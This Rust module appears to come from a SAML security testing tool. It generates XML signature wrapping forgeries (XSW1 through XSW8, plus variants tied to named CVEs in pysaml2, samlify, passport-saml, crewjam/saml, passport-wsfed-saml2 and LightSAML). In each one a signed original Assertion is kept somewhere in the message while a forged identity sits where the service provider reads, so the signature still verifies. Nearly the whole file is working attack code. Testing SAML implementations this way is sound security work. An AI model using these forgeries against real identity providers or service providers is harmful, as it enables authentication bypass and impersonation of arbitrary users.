//! XML signature wrapping: the signed element stays intact somewhere, a forged one is where
//! the SP reads. Shapes follow SAML Raider's XSWHelpers (USENIX'12) and the published PoCs.

use crate::bytes::{attr_value, before_end_tag, child, escape, insert, splice, Doc};
use crate::family::{evil_id, forged, Parts};
use crate::forge::{Forge, Forged, Skip};
use crate::identity;
use saml_protocol::{ASSERTION_NS, DSIG_NS, PROTOCOL_NS};

fn parse<'a>(f: &Forge<'a>) -> Result<Doc<'a>, Skip> {
    Doc::parse(f.seed)
}

/// Identity edits inside the Assertion, in place.
fn forge_in_place(p: &Parts) -> (crate::bytes::Edits, identity::Swap) {
    identity::rewrite_edits(p.doc, p.assertion.range(), &identity::forger(p.doc))
}

fn id_edit(node: crate::bytes::Node, id: &str) -> Result<(std::ops::Range<usize>, String), Skip> {
    attr_value(node, "ID")
        .map(|r| (r, id.to_owned()))
        .ok_or_else(|| Skip::NotApplicable("the signed element has no ID".into()))
}

/// XSW1/XSW2: a forged Response root (new ID, forged Assertion); the original Response,
/// unsigned, inside its Signature (`inside`) or just before it.
fn forged_root(f: &Forge, inside: bool) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_response_sig()?;
    let original = p.response_unsigned();
    let (mut edits, swap) = forge_in_place(&p);
    let root_id = p.root.attribute("ID").unwrap_or_default();
    edits.push(id_edit(p.root, &evil_id(root_id))?);
    let at = if inside {
        before_end_tag(doc.src, sig)
    } else {
        sig.range().start
    };
    edits.push(insert(at, original));
    if let Some(s) = p.assertion_sig {
        edits.push((s.range(), String::new()));
    }
    forged(splice(doc.src, edits), swap)
}

/// XSW1: forged Response root; the original Response (unsigned) inside its Signature.
pub fn xsw1(f: &Forge) -> Result<Forged, Skip> {
    forged_root(f, true)
}

/// XSW2: as XSW1, the original Response detached before the Signature.
pub fn xsw2(f: &Forge) -> Result<Forged, Skip> {
    forged_root(f, false)
}

/// XSW3: a forged Assertion with a new ID inserted before the signed one.
pub fn xsw3(f: &Forge) -> Result<Forged, Skip> {
    forged_assertion_before(f, &|p, id| p.forged_assertion_with_id(id))
}

/// XSW3 for a reader of the whole document (samlify < 2.4.0): the forged Assertion, without
/// an AudienceRestriction, before the signed one, so every field but the NameID reads once.
pub fn forged_without_audience(f: &Forge) -> Result<Forged, Skip> {
    forged_assertion_before(f, &|p, id| p.forged_assertion_without_audience(id))
}

/// Builds a forged copy of the Assertion with the given ID, and what it swaps.
type ForgedCopy = dyn Fn(&Parts, &str) -> Result<(String, identity::Swap), Skip>;

/// The forged Assertion `build` makes with a new ID, inserted before the signed one.
fn forged_assertion_before(f: &Forge, build: &ForgedCopy) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    p.need_assertion_sig()?;
    let (evil, swap) = build(&p, &evil_id(p.assertion_id()))?;
    forged(
        p.splice_unsigned_response(vec![insert(p.assertion.range().start, evil)]),
        swap,
    )
}

/// XSW4: the forged Assertion wraps the original (signed) one as its last child.
pub fn xsw4(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    p.need_assertion_sig()?;
    let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
    let at = evil.rfind("</").unwrap_or(evil.len());
    let wrapped = format!("{}{}{}", &evil[..at], doc.outer(p.assertion), &evil[at..]);
    forged(
        p.splice_unsigned_response(vec![(p.assertion.range(), wrapped)]),
        swap,
    )
}

/// XSW5: the Assertion forged in place (new ID, Signature kept); an unsigned copy of the
/// original appended at the end of the Response.
pub fn xsw5(f: &Forge) -> Result<Forged, Skip> {
    forged_in_place_original_at(f, true, &|p| {
        insert(before_end_tag(p.doc.src, p.root), p.assertion_unsigned())
    })
}

/// The Assertion forged in place (Signature kept; a new ID when `new_id`), the unsigned
/// original inserted by `place`.
fn forged_in_place_original_at(
    f: &Forge,
    new_id: bool,
    place: &dyn Fn(&Parts) -> (std::ops::Range<usize>, String),
) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    p.need_assertion_sig()?;
    let (mut edits, swap) = forge_in_place(&p);
    if new_id {
        edits.push(id_edit(p.assertion, &evil_id(p.assertion_id()))?);
    }
    edits.push(place(&p));
    forged(p.splice_unsigned_response(edits), swap)
}

/// As XSW5, the unsigned original inside `samlp:Extensions` after the Response's Issuer
/// (the schema allows any element there): a reader that takes the Response's one Assertion
/// child never meets it, an ID lookup finds it (pysaml2 < 5.0.0, CVE-2020-5390; its fix's
/// regression test wraps the original in an unqualified element after the forged Assertion,
/// this is the schema-valid variant of that shape).
pub fn original_in_extensions(f: &Forge) -> Result<Forged, Skip> {
    forged_in_place_original_at(f, true, &in_extensions)
}

/// As [`original_in_extensions`], the forged Assertion keeping the signed ID: the
/// Reference resolves to the first element with it, the original in Extensions, and the
/// Reference names the Assertion that carries the Signature (LightSAML < 5.0.1 on
/// xmlseclibs, GHSA-w553-pwx6-3mg9).
pub fn original_in_extensions_same_id(f: &Forge) -> Result<Forged, Skip> {
    forged_in_place_original_at(f, false, &in_extensions)
}

/// The unsigned original in `samlp:Extensions` after the Response's Issuer.
fn in_extensions(p: &Parts) -> (std::ops::Range<usize>, String) {
    insert(
        p.after_response_header(),
        format!(
            "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{}</samlp:Extensions>",
            p.assertion_unsigned()
        ),
    )
}

/// XSW6: as XSW5, the unsigned original copy inside the forged Assertion's Signature.
pub fn xsw6(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let (mut edits, swap) = forge_in_place(&p);
    edits.push(id_edit(p.assertion, &evil_id(p.assertion_id()))?);
    edits.push(insert(before_end_tag(doc.src, sig), p.assertion_unsigned()));
    forged(p.splice_unsigned_response(edits), swap)
}

/// XSW7: an unqualified `Extensions` before the signed Assertion holds a forged copy with the
/// same ID.
pub fn xsw7(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    p.need_assertion_sig()?;
    let (evil, swap) = p.forged_assertion(None)?;
    let wrapper = format!("<Extensions>{evil}</Extensions>");
    forged(
        p.splice_unsigned_response(vec![insert(p.assertion.range().start, wrapper)]),
        swap,
    )
}

/// XSW8: the Assertion forged in place (same ID, Signature kept); an unsigned copy of the
/// original inside a `ds:Object` of the Signature.
pub fn xsw8(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let (mut edits, swap) = forge_in_place(&p);
    let object = format!(
        "<ds:Object xmlns:ds=\"{}\">{}</ds:Object>",
        DSIG_NS,
        p.assertion_unsigned()
    );
    edits.push(insert(before_end_tag(doc.src, sig), object));
    forged(p.splice_unsigned_response(edits), swap)
}

/// A forged copy of the Assertion's Subject inside the Assertion's own Signature, in a
/// `ds:Object`: SignedInfo does not cover it and the enveloped-signature transform removes it
/// before digesting, so the signature still verifies; a reader that finds the NameID by a
/// descendant path (`.//Subject/NameID`) reads the copy, which comes first
/// (passport-wsfed-saml2 < 4.6.4, CVE-2025-46572).
pub fn subject_in_signature(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let subject = child(p.assertion, ASSERTION_NS, "Subject")
        .ok_or_else(|| Skip::NotApplicable("the Assertion has no Subject".into()))?;
    if sig.range().start > subject.range().start {
        return Err(Skip::NotApplicable(
            "the Signature follows the Subject, so a copy inside it would not be read first".into(),
        ));
    }
    // Forged, and declaring the namespaces it inherits (inside ds:Signature another default
    // namespace is in scope).
    let (copy, swap) = crate::mutate::copy_of(&doc, subject, true, crate::mutate::IdChange::Keep)?;
    let object = format!("<ds:Object xmlns:ds=\"{DSIG_NS}\">{copy}</ds:Object>");
    forged(
        p.splice_unsigned_response(vec![insert(before_end_tag(doc.src, sig), object)]),
        swap,
    )
}

/// A forged copy of the Assertion's AttributeStatement in a `ds:Object` of the Assertion's
/// own Signature, the Signature moved to the Assertion's end (the enveloped transform
/// removes it wherever it sits, so the digest holds): a reader that fills a profile from
/// `.//AttributeStatement/Attribute` in document order, the last of each name winning, takes
/// the copy's claims (passport-wsfed-saml2 < 4.6.4, CVE-2025-46573).
pub fn attributes_in_signature(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let statement = child(p.assertion, ASSERTION_NS, "AttributeStatement")
        .ok_or_else(|| Skip::NotApplicable("the Assertion has no AttributeStatement".into()))?;
    let (copy, swap) =
        crate::mutate::copy_of(&doc, statement, true, crate::mutate::IdChange::Keep)?;
    let inner_end = before_end_tag(doc.src, sig);
    let moved = format!(
        "{}<ds:Object xmlns:ds=\"{DSIG_NS}\">{copy}</ds:Object>{}",
        &doc.src[sig.range().start..inner_end],
        &doc.src[inner_end..sig.range().end]
    );
    forged(
        p.splice_unsigned_response(vec![
            (sig.range(), String::new()),
            insert(before_end_tag(doc.src, p.assertion), moved),
        ]),
        swap,
    )
}

/// The signed original moved into `samlp:StatusDetail`; the forged, unsigned one in its place.
pub fn status_detail(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let status = child(p.root, PROTOCOL_NS, "Status")
        .ok_or_else(|| Skip::NotApplicable("the seed has no Status".into()))?;
    let (mut edits, swap) = forge_in_place(&p);
    edits.push((sig.range(), String::new()));
    let detail = format!(
        "<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\">{}</samlp:StatusDetail>",
        doc.outer(p.assertion)
    );
    edits.push(insert(before_end_tag(doc.src, status), detail));
    forged(p.splice_unsigned_response(edits), swap)
}

/// The signed original nested in the `saml:Advice` of a forged, unsigned Assertion.
pub fn advice(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let (mut edits, swap) = forge_in_place(&p);
    edits.push((sig.range(), String::new()));
    edits.push(id_edit(p.assertion, &evil_id(p.assertion_id()))?);
    let at = child(p.assertion, ASSERTION_NS, "Conditions")
        .map_or_else(|| before_end_tag(doc.src, p.assertion), |c| c.range().end);
    let advice = format!(
        "<saml:Advice xmlns:saml=\"{}\">{}</saml:Advice>",
        ASSERTION_NS,
        doc.outer(p.assertion)
    );
    edits.push(insert(at, advice));
    forged(p.splice_unsigned_response(edits), swap)
}

/// Two assertions: the signed original first, a forged copy (`…_attack`) after it
/// (crewjam/saml CVE-2022-41912: the first is verified, the last consumed).
pub fn signed_first(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    p.need_assertion_sig()?;
    let (evil, swap) = p.forged_assertion_with_id(&format!("{}_attack", p.assertion_id()))?;
    forged(
        p.splice_unsigned_response(vec![insert(p.assertion.range().end, evil)]),
        swap,
    )
}

/// Two assertions: a forged copy with the same ID first, the signed original after it
/// (samlify CVE-2025-47949 family; duplicate IDs).
pub fn forged_first_same_id(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    p.need_assertion_sig()?;
    let (evil, swap) = p.forged_assertion(None)?;
    forged(
        p.splice_unsigned_response(vec![insert(p.assertion.range().start, evil)]),
        swap,
    )
}

/// Two assertions with one ID: the signed original first, a forged copy after it (duplicate
/// IDs; a verifier resolving the ID to the first match and a reader taking the last).
pub fn signed_first_same_id(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    p.need_assertion_sig()?;
    let (evil, swap) = p.forged_assertion(None)?;
    forged(
        p.splice_unsigned_response(vec![insert(p.assertion.range().end, evil)]),
        swap,
    )
}

/// Strips an XML declaration so a standalone document can be embedded.
pub fn embeddable(xml: &str) -> &str {
    let t = xml.trim_start_matches('\u{feff}').trim_start();
    if t.starts_with("<?xml") {
        t.find("?>").map_or(t, |i| t[i + 2..].trim_start())
    } else {
        t
    }
}

/// A donor (IdP-signed metadata) as the first root; a second root holding the forged
/// Assertion (passport-saml CVE-2022-39299: any IdP-signed element is enough).
pub fn roots_donor_first(f: &Forge) -> Result<Forged, Skip> {
    let donor = embeddable(f.metadata()?);
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    let (evil, swap) = p.forged_assertion(None)?;
    // The attacker's own login gives them the request's ID, the ACS and the Issuer: a forged
    // Response without them would be refused by any SP that checks InResponseTo, bug or not
    // (passport-saml 3.2.1 with validateInResponseTo did, hiding CVE-2022-39299).
    let echoed: String = ["InResponseTo", "Destination"]
        .iter()
        .filter_map(|name| {
            let value = p.root.attribute(*name)?;
            Some(format!(" {name}=\"{}\"", escape(value)))
        })
        .collect();
    let issuer = child(p.root, ASSERTION_NS, "Issuer")
        .and_then(|i| i.text())
        .map(|t| format!("<Issuer xmlns=\"{ASSERTION_NS}\">{}</Issuer>", escape(t)))
        .unwrap_or_default();
    let second = format!(
        "<samlp:Response xmlns:samlp=\"{PROTOCOL_NS}\" ID=\"{}\" Version=\"2.0\" IssueInstant=\"{}\"{echoed}>{issuer}<samlp:Status><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>{evil}</samlp:Response>",
        evil_id(p.root.attribute("ID").unwrap_or("_r")),
        p.root.attribute("IssueInstant").unwrap_or_default()
    );
    forged(format!("{donor}{second}"), swap)
}

/// A donor's valid Signature first in document order (inside `samlp:Extensions`), the
/// Assertion forged and unsigned: for SPs that verify "the first Signature they find".
pub fn donor_signature_first(f: &Forge) -> Result<Forged, Skip> {
    let donor = embeddable(f.metadata()?);
    let doc = parse(f)?;
    let (whole, swap) = crate::family::forge_document(&doc);
    let unsigned = crate::family::strip_signatures(&whole)?;
    let doc = Doc::parse_built(&unsigned)?;
    let p = Parts::of(&doc)?;
    let ext = format!("<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{donor}</samlp:Extensions>");
    forged(
        splice(&unsigned, vec![insert(p.after_response_header(), ext)]),
        swap,
    )
}

/// A forged copy whose ID is a namespaced `saml:ID` (no plain ID), before the signed original:
/// for consumers that find "the element with that ID" by local name ("The Fragile Lock").
pub fn attribute_pollution(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    p.need_assertion_sig()?;
    let polluted_id = format!(
        "saml:ID=\"{}\" xmlns:saml=\"{ASSERTION_NS}\"",
        p.assertion_id()
    );
    let (polluted, swap) = p.forged_assertion(Some(polluted_id))?;
    forged(
        p.splice_unsigned_response(vec![insert(p.assertion.range().start, polluted)]),
        swap,
    )
}

/// CVE-2025-47949's shape (samlify < 2.10.0): the Assertion's Signature lifted to be a child of
/// the Response, the signed original (without it) hidden in `samlp:Extensions`, where the
/// schema allows it, and a forged, unsigned Assertion with a new ID where the SP reads. An SP
/// that takes any Signature under the Response for the message's, without checking what its
/// Reference points at, verifies the original and reads the forgery.
pub fn lifted_signature(f: &Forge) -> Result<Forged, Skip> {
    let doc = parse(f)?;
    let p = Parts::of(&doc)?;
    let sig = p.need_assertion_sig()?;
    let lifted = p.movable_signature(sig)?;
    let hidden = format!(
        "{lifted}<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{}</samlp:Extensions>",
        p.assertion_unsigned()
    );
    let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
    let edits = vec![
        (p.assertion.range(), evil),
        insert(p.after_response_header(), hidden),
    ];
    forged(p.splice_unsigned_response(edits), swap)
}
